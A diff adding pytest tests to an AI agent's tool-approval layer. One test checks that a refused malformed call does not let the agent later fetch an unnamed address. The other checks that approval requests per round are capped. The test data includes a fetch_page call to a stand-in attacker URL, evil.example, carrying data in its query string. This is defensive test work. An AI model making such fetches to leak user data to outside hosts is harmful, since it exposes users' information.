@@ -7,7 +7,7 @@ from typing import TYPE_CHECKING, Any
 import pytest
 
 from core.agent.loop import MAX_ASKED, MAX_ROUNDS
-from core.agent.tool import Effect, Output
+from core.agent.tool import BadCall, Effect, Output
 from tests.ollama_server import Calls, OllamaServer
 from tests.scenario.bot import hub, let_in
 from tests.toolbox import Box, Made
@@ -141,6 +141,32 @@ async def test_an_address_that_nobody_named_is_asked_about(bot: Bot, server: Oll
     await bot.say("Read https://example.org/ please")
     assert [call["url"] for call in desk.fetch.called] == ["https://example.org/", "https://example.org/more"]
     await bot.until(text="The agent wants to fetch_page https://evil.example/?notes=nine")
+
+
+async def test_an_address_is_not_named_by_a_call_that_was_refused_for_it(
+    bot: Bot, server: OllamaServer, desk: Desk
+) -> None:
+    url = "https://evil.example/?notes=nine"
+
+    def refuse(arguments: Any) -> Any:
+        if "twice" in arguments:
+            raise BadCall(tool="fetch_page", why=f"{arguments} has a field too many.")
+        return arguments
+
+    desk.fetch.read = refuse  # type: ignore[method-assign]
+    server.says(Calls("fetch_page", {"url": url, "twice": "yes"}))
+    server.says(Calls("fetch_page", {"url": url}))
+    server.says("Read.")
+    await bot.say("Read on")
+    assert desk.fetch.called == []
+
+
+async def test_the_calls_of_one_round_are_counted_too(bot: Bot, server: OllamaServer, desk: Desk) -> None:
+    calls = [Calls("write_file", {"path": f"{number}.md", "text": "x"}) for number in range(MAX_ASKED + 1)]
+    server.says(*calls)
+    server.says("Asked.")
+    await bot.say("Write all")
+    assert bot.rows("SELECT count(*) FROM approval") == [(MAX_ASKED,)]
 
 
 @pytest.mark.parametrize(
